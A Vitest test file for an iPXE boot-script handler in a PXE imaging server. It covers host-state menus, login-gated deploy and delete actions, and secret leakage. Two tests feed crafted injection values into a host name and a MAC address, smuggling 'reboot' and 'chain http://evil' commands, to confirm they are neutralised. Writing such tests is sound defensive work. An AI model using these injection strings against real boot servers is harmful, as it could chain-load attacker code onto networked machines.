import pino from 'pino';
import { beforeEach, describe, expect, it } from 'vitest';
import { createBootScriptHandler } from '../../../server/src/pxe/boot-script-handler.ts';
import { MENU_ROWS } from '../../../server/src/pxe/boot-scripts.ts';
import { loadPxeConfig } from '../../../server/src/pxe/pxe-config.ts';
import { checkIpxeScript } from './ipxe-syntax.ts';
import { MemoryBootDirectory } from './memory-boot-directory.ts';

const BASE = 'http://10.99.0.1:8080';
const PASSWORD = 'S3cret-pa55word!';
const UNKNOWN = '52:54:00:00:00:01';
const PENDING = '52:54:00:00:00:02';
const REGISTERED = '52:54:00:00:00:03';
const WITH_TASK = '52:54:00:00:00:04';

const boot = loadPxeConfig({
  BRUME_PXE_MENU_TIMEOUT: '7',
  BRUME_BOOT_KERNEL_URL: `${BASE}/boot/vmlinuz`,
  BRUME_BOOT_INITRD_URL: `${BASE}/boot/initrd.img`,
  BRUME_BOOT_KERNEL_ARGS: 'quiet console=ttyS0,115200',
}).boot;

let directory: MemoryBootDirectory;
let handler: ReturnType<typeof createBootScriptHandler>;

beforeEach(() => {
  directory = new MemoryBootDirectory();
  directory.addHost(PENDING, { id: 'h-pending', name: 'new-pc', state: 'pending' });
  directory.addHost(REGISTERED, { id: 'h-reg', name: 'pc-01', state: 'approved' });
  directory.addHost(WITH_TASK, {
    id: 'h-task',
    name: 'pc-02',
    state: 'approved',
    pendingTask: { id: 'task-77', kind: 'deploy' },
  });
  directory.images.push({ id: 'img-1', name: 'win11-lab' }, { id: 'img-2', name: 'debian-12' });
  directory.users.push(
    { username: 'alice', password: PASSWORD, role: 'OPERATOR' },
    { username: 'vic', password: PASSWORD, role: 'VIEWER' },
  );
  handler = createBootScriptHandler({
    directory,
    boot,
    log: pino({ level: 'silent' }),
    now: () => new Date('2026-01-02T03:04:05Z'),
  });
});

async function get(query: string): Promise<string> {
  const res = await handler(new Request(`${BASE}/boot.ipxe${query}`), { remoteAddress: '10.99.0.160' });
  expect(res.status).toBe(200);
  expect(res.headers.get('content-type')).toMatch(/^text\/plain/);
  return res.text();
}

async function post(fields: Record<string, string>): Promise<string> {
  const body = new URLSearchParams(fields).toString();
  const res = await handler(
    new Request(`${BASE}/boot.ipxe`, {
      method: 'POST',
      body,
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
    }),
    { remoteAddress: '10.99.0.160' },
  );
  expect(res.status).toBe(200);
  return res.text();
}

/** Parses with the checker (no errors) and returns the non-gap menu rows' texts. */
function parsed(script: string) {
  const check = checkIpxeScript(script);
  expect(check.errors).toEqual([]);
  return check;
}

function rows(script: string): string[] {
  return parsed(script)
    .items.filter((i) => !i.gap)
    .map((i) => i.text);
}

function expectNoSecret(script: string): void {
  expect(script).not.toContain(PASSWORD);
  expect(script.toLowerCase()).not.toMatch(/token/);
  // `${password}` (iPXE's own variable, typed at the client) is the only way the word appears.
  expect(script.replaceAll(`\${password}`, '')).not.toMatch(/password=|password \S/i);
}

describe('GET /boot.ipxe', () => {
  it('Given no MAC yet, when iPXE first asks, then it is told to chain itself with its MAC, arch and UUID', async () => {
    const script = await get('');
    const check = parsed(script);
    expect(check.commands.map((c) => c.name)).toEqual(['chain', 'exit']);
    expect(script).toContain(
      `${BASE}/boot.ipxe?mac=\${netX/mac}&arch=\${buildarch}&platform=\${platform}&uuid=\${uuid}`,
    );
  });

  it('Given an unregistered MAC, then FOG menu rows for U with the NOT registered header, disk boot by default', async () => {
    const script = await get(`?mac=${UNKNOWN}&arch=x86_64&platform=pcbios`);
    expect(rows(script)).toEqual([
      MENU_ROWS.local,
      MENU_ROWS.memtest,
      MENU_ROWS.fullReg,
      MENU_ROWS.quickReg,
      MENU_ROWS.deploy,
      MENU_ROWS.multicast,
      MENU_ROWS.sysinfo,
    ]);
    expect(script).toContain('item --gap -- Host is NOT registered!');
    expect(script).toContain('choose --default fog.local --timeout 7000 target || goto fog.local');
    expect(script).toContain('sanboot --no-describe --drive 0x80');
    expect(script).toMatch(/kernel \S+\/boot\/vmlinuz .*brume\.mode=register/);
    expect(script).toMatch(/kernel \S+ .*brume\.mode=quickreg/);
    expectNoSecret(script);
    expect(directory.boots).toEqual([
      expect.objectContaining({
        mac: UNKNOWN,
        hostId: null,
        address: '10.99.0.160',
        arch: 'x86_64-pcbios',
        outcome: 'menu',
      }),
    ]);
  });

  it('Given a pending host, then the pending header and Approve This Host, no registration rows', async () => {
    const script = await get(`?mac=${PENDING}`);
    expect(script).toContain('Host is pending approval!');
    expect(rows(script)).toEqual([
      MENU_ROWS.local,
      MENU_ROWS.memtest,
      MENU_ROWS.deploy,
      MENU_ROWS.multicast,
      MENU_ROWS.sysinfo,
      MENU_ROWS.approve,
    ]);
    expectNoSecret(script);
  });

  it('Given a registered host, then its name in the header, Quick Host Deletion, and its last-seen updated', async () => {
    const script = await get(`?mac=${REGISTERED.toUpperCase()}`);
    expect(script).toContain('Host is registered as pc-01!');
    expect(rows(script)).toEqual([
      MENU_ROWS.local,
      MENU_ROWS.memtest,
      MENU_ROWS.deploy,
      MENU_ROWS.multicast,
      MENU_ROWS.delete,
      MENU_ROWS.sysinfo,
    ]);
    expect(directory.lastSeen.get('h-reg')).toEqual(new Date('2026-01-02T03:04:05Z'));
    expectNoSecret(script);
  });

  it('Given every state-changing row, then each goes through the login block that POSTs the typed credentials', async () => {
    const script = await get(`?mac=${REGISTERED}`);
    for (const label of ['fog.deployimage', 'fog.multijoin', 'fog.quickdel']) {
      expect(script).toMatch(
        new RegExp(`:${label.replace('.', '\\.')}\\nset brume_action \\w+\\ngoto brume\\.login`),
      );
    }
    expect(script).toContain('login || goto menu');
    expect(script).toContain(`param password \${password}`);
    expect(script).toContain(`chain ${BASE}/boot.ipxe##params`);
  });

  it('Given a host with a pending task, then no menu: kernel+initrd+boot with task, server and MAC, and no secret', async () => {
    const script = await get(`?mac=${WITH_TASK}`);
    const check = parsed(script);
    expect(check.items).toEqual([]);
    expect(check.commands.map((c) => c.name)).toEqual([
      'echo',
      'kernel',
      'initrd',
      'boot',
      'goto',
      'echo',
      'sleep',
      'exit',
    ]);
    const kernel = check.commands.find((c) => c.name === 'kernel');
    expect(kernel?.args).toEqual([
      `${BASE}/boot/vmlinuz`,
      'initrd=initrd',
      `brume.server=${BASE}`,
      `brume.mac=${WITH_TASK}`,
      'brume.task=task-77',
      'brume.kind=deploy',
      'sysctl.net.core.rmem_max=8388608',
      'quiet',
      'console=ttyS0,115200',
    ]);
    expectNoSecret(script);
    expect(directory.boots.at(-1)).toMatchObject({ hostId: 'h-task', outcome: 'task' });
  });

  it('Given a host name crafted to break out of the echo/item line, then it is neutralised and the script still parses', async () => {
    directory.addHost(REGISTERED, {
      id: 'h-reg',
      name: `pc\${password} || reboot\n:fog.local\nchain http://evil/\`id\``,
      state: 'approved',
    });
    const script = await get(`?mac=${REGISTERED}`);
    const header = script.split('\n').find((l) => l.startsWith('item --gap'));
    expect(header).toBe(
      'item --gap -- Host is registered as pc??password? ?? reboot :fog.local chain http://evil/?id?!',
    );
    expect(parsed(script).labels.has('fog.local')).toBe(true);
    expect(script.match(/^:fog\.local$/gm)).toHaveLength(1);
  });

  it('Given a MAC with a newline or junk, then a short refusal script and nothing is looked up', async () => {
    for (const mac of ['aa:bb:cc:dd:ee:ff%0achain%20http://evil', '01:00:5e:00:00:01', 'zz', '']) {
      const script = await get(`?mac=${mac}`);
      expect(parsed(script).commands.map((c) => c.name)).toEqual(['echo', 'sleep', 'exit']);
      expect(script).not.toContain('evil');
    }
    expect(directory.boots).toEqual([]);
  });
});

describe('POST /boot.ipxe (menu actions behind a login)', () => {
  it('Given only a MAC (no login), a wrong password or a viewer, then "Invalid login", and nothing changes', async () => {
    const attempts: Record<string, string>[] = [
      {},
      { username: 'alice', password: 'wrong' },
      { username: 'vic', password: PASSWORD },
    ];
    for (const creds of attempts) {
      const script = await post({ mac: REGISTERED, action: 'delete', ...creds });
      expect(script).toContain('menu Invalid login');
      parsed(script);
      expectNoSecret(script);
    }
    expect(directory.actions).toEqual([]);
    expect(directory.hosts.has(REGISTERED)).toBe(true);
    expect(directory.boots.map((b) => b.outcome)).toEqual([
      'login-refused',
      'login-refused',
      'login-refused',
    ]);
  });

  it('Given a good login for Deploy Image, then an image menu; choosing one queues the deploy and boots into it', async () => {
    const menu = await post({ mac: UNKNOWN, action: 'deploy', username: 'alice', password: PASSWORD });
    expect(rows(menu)).toEqual(['win11-lab', 'debian-12', 'Back to the menu']);
    expect(menu).toContain('param image img-1');
    expectNoSecret(menu);
    const task = await post({
      mac: UNKNOWN,
      action: 'deploy',
      image: 'img-2',
      username: 'alice',
      password: PASSWORD,
    });
    expect(task).toMatch(/^kernel \S+ .*brume\.task=task-1 brume\.kind=deploy/m);
    expectNoSecret(task);
    expect(directory.actions).toEqual([`deploy ${UNKNOWN} img-2 by alice`]);
  });

  it('Given Join Multicast Session, then the session name is asked, and a known session boots into its task', async () => {
    const prompt = await post({
      mac: REGISTERED,
      action: 'multicast',
      username: 'alice',
      password: PASSWORD,
    });
    expect(parsed(prompt).commands.map((c) => c.name)).toContain('read');
    const refused = await post({
      mac: REGISTERED,
      action: 'multicast',
      session: 'nope',
      username: 'alice',
      password: PASSWORD,
    });
    expect(refused).toContain('No session named nope');
    const task = await post({
      mac: REGISTERED,
      action: 'multicast',
      session: 'lab-a',
      username: 'alice',
      password: PASSWORD,
    });
    expect(task).toContain('brume.kind=multicast');
    expect(directory.actions).toEqual([`multicast ${REGISTERED} lab-a by alice`]);
  });

  it('Given Approve This Host on a pending host, then it is approved and the next boot goes straight to its inventory', async () => {
    const back = await post({ mac: PENDING, action: 'approve', username: 'alice', password: PASSWORD });
    expect(back).toContain('echo Host approved');
    expect(back).toContain(`chain ${BASE}/boot.ipxe?mac=${PENDING}`);
    parsed(back);
    const next = await get(`?mac=${PENDING}`);
    expect(next).toContain('brume.kind=inventory');
  });

  it('Given Quick Host Deletion on a registered host, then it is deleted; approve or delete where the row is absent is refused', async () => {
    expect(
      await post({ mac: REGISTERED, action: 'approve', username: 'alice', password: PASSWORD }),
    ).toContain('not available');
    expect(await post({ mac: UNKNOWN, action: 'delete', username: 'alice', password: PASSWORD })).toContain(
      'not available',
    );
    expect(directory.actions).toEqual([]);
    expect(
      await post({ mac: REGISTERED, action: 'delete', username: 'alice', password: PASSWORD }),
    ).toContain('Host deleted');
    expect(directory.hosts.has(REGISTERED)).toBe(false);
    expect(await get(`?mac=${REGISTERED}`)).toContain('Host is NOT registered!');
  });

  it('Given an oversized body, then 413 without reading it all', async () => {
    const res = await handler(
      new Request(`${BASE}/boot.ipxe`, { method: 'POST', body: 'a'.repeat(64 * 1024) }),
    );
    expect(res.status).toBe(413);
  });
});
